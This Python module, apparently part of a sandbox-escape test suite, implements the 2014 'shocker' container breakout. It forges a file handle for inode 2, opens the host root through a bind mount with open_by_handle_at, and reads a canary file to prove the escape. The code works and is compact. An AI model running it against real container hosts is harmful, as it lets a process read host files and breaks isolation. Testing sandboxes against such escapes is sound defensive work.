"""Open a host file by its handle: open_by_handle_at(2) knows no mount namespace.

The "shocker" exploit of 2014: DAC_READ_SEARCH (in `--privileged`, or added) lets a process open the
root inode of the file system that lies below any bind mount, and walk from there.
"""

from __future__ import annotations

import ctypes
import os
from typing import Any

from sandboxd.escapes._kernel import NotApplicable, call, mount_points

TITLE = "open a host file by handle (shocker)"
JUDGE = "token"
EXPECTED = {"runc": "no DAC_READ_SEARCH", "runsc": "not implemented"}


class _Handle(ctypes.Structure):
    _fields_ = [
        ("size", ctypes.c_uint),
        ("kind", ctypes.c_int),
        ("bytes", ctypes.c_ubyte * 8),
    ]


def attempt(facts: dict[str, Any]) -> dict[str, Any]:
    binds = [p for p in mount_points() if p.startswith(("/etc/", facts["workspace"] or "/etc/"))]
    if not binds:
        raise NotApplicable("nothing is mounted from the host")
    # Inode 2 is the root folder of ext2, ext3 and ext4.
    handle = _Handle(8, 1, (ctypes.c_ubyte * 8)(2))
    last = OSError("no handle")
    for path in binds:
        around = os.open(path, os.O_RDONLY)
        try:
            root = call("open_by_handle_at", around, ctypes.byref(handle), os.O_RDONLY)
            file = os.open(facts["canary"].lstrip("/"), os.O_RDONLY, dir_fd=root)
            return {"token": os.read(file, 256).decode("utf-8", "replace"), "detail": path}
        except OSError as error:
            last = error
        finally:
            os.close(around)
    raise last
